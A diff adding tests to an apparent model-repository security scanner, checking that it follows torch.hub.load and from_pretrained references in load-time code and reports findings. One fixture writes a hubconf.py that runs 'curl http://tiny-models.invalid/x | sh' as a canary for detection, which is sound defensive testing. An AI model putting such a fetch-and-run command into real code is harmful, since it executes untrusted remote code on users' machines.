@@ -25,6 +25,7 @@ except ImportError:  # the Debian python3 the tests run under has it (python3-js
 HERE = os.path.dirname(os.path.abspath(__file__))
 SOURCE = os.path.dirname(os.path.dirname(HERE))
 EXAMPLES = os.path.join(SOURCE, "examples")
+CROSS_CODE = os.path.join(SOURCE, "tests", "fixtures", "cross-repo-code")
 MODELGATE = None
 with open(os.path.join(SOURCE, "docs", "report-v1.schema.json")) as _f:
     CONTRACT = json.load(_f)
@@ -559,6 +560,65 @@ class Follow(Base):
         self.assertEqual(report["targets"][1]["status"], "partial")
         self.assertEqual(report["targets"][1]["followed_from"], "hf:acme/cross")
         self.assertIn("repository not found", reasons({"targets": [report["targets"][1]]}))
+
+    def code_repos(self):
+        """Repositories that load-time Python code names (tests/fixtures/cross-repo-code)."""
+        repos = {"acme/delegating": os.path.join(CROSS_CODE, "hubconf-delegates"), "acme/nested": os.path.join(CROSS_CODE, "nested-trust")}
+        for rid, body in (("canary-owner/shared-models", "def small(**kwargs):\n    return None\n"),
+                          ("canary-owner/tiny-models", "import os\n\n\ndef tiny(**kwargs):\n    os.system('curl http://tiny-models.invalid/x | sh')\n"),
+                          ("canary-org/nested-encoder", None), ("canary-org/plain-tokenizer", None)):
+            d = os.path.join(self.tmp, rid.replace("/", "_"))
+            os.makedirs(d)
+            if body is None:
+                with open(os.path.join(d, "config.json"), "w") as f:
+                    json.dump({"model_type": "canary"}, f)
+            else:
+                with open(os.path.join(d, "hubconf.py"), "w") as f:
+                    f.write("dependencies = []\n" + body)
+            repos[rid] = d
+        return repos
+
+    def test_follows_torch_hub_load_in_hubconf_to_github(self):
+        hub = self.start(self.code_repos())
+        rc, report, err = scan("torchhub:acme/delegating", self.env(), "--endpoint", hub.url, "--follow-remote-code")
+        self.assertIsNotNone(report, err)
+        targets = report["targets"]
+        # The helper module's call comes first (file order); the hubconf's pinned and branch calls name
+        # the same repository, which is scanned once; computed ids are recorded, not followed.
+        self.assertEqual([t["target"] for t in targets], ["torchhub:acme/delegating", "torchhub:canary-owner/tiny-models",
+                                                         "torchhub:canary-owner/shared-models"], err)
+        ref = targets[1]["followed_reference"]
+        self.assertEqual((ref["file"], ref["remote_repo"], ref["key"]), ("delegate_helpers.py", "canary-owner/tiny-models", "line 5: hub.load"))
+        self.assertEqual(targets[2]["followed_reference"]["key"], "line 12: torch.hub.load")
+        # torch.hub's default ref (main) was fetched, and the followed hubconf's code is analysed.
+        self.assertRegex(targets[1]["source"]["revision"], "^[0-9a-f]{40}$")
+        self.assertTrue(any(f["file"] == "hubconf.py" and f["rule_id"] == "BH103" and f["load_reachable"] is True for f in targets[1]["findings"]), targets[1]["findings"])
+        ld112 = [f for f in targets[0]["findings"] if f["rule_id"] == "LD112"]
+        self.assertEqual(sorted((f["file"], f["line"]) for f in ld112),
+                         [("delegate_helpers.py", 5), ("hubconf.py", 12), ("hubconf.py", 16), ("hubconf.py", 20), ("hubconf.py", 28)])
+        computed = [t for t in targets[0]["custom_code"]["triggers"] if t["key"] in ("line 16: torch.hub.load", "line 28: torch.hub.load")]
+        self.assertEqual([t["remote_repo"] for t in computed], [None, None])
+        if jsonschema:
+            jsonschema.validate(report, CONTRACT)
+
+    def test_follows_nested_from_pretrained_to_the_hub(self):
+        hub = self.start(self.code_repos())
+        rc, report, err = scan("hf:acme/nested", self.env(), "--endpoint", hub.url, "--follow-remote-code")
+        self.assertIsNotNone(report, err)
+        targets = report["targets"]
+        names = [t["target"] for t in targets]
+        self.assertEqual(names[:3], ["hf:acme/nested", "hf:canary-org/nested-encoder", "hf:canary-org/plain-tokenizer"], err)
+        self.assertEqual(targets[1]["followed_reference"]["key"], "line 7: AutoModel.from_pretrained")
+        self.assertEqual(targets[1]["status"], "complete", reasons({"targets": [targets[1]]}))
+        # The pinned reference is followed at its commit (which this hub does not have: partial, said so).
+        self.assertEqual(names[3], "hf:canary-org/pinned-head@89abcdef0123456789abcdef0123456789abcdef")
+        self.assertEqual(targets[3]["status"], "partial")
+        # The function nothing calls at load names a repository that is not followed.
+        self.assertNotIn("hf:canary-org/export-only", names)
+        ld112 = [(f["file"], f["line"]) for f in targets[0]["findings"] if f["rule_id"] == "LD112"]
+        self.assertEqual(ld112, [("modeling_nested.py", 7)])
+        if jsonschema:
+            jsonschema.validate(report, CONTRACT)
 
     def test_depth_is_bounded(self):
         p = subprocess.run([MODELGATE, "scan", "hf:a/b", "--follow-remote-code=9"], env=self.env(), capture_output=True, text=True,
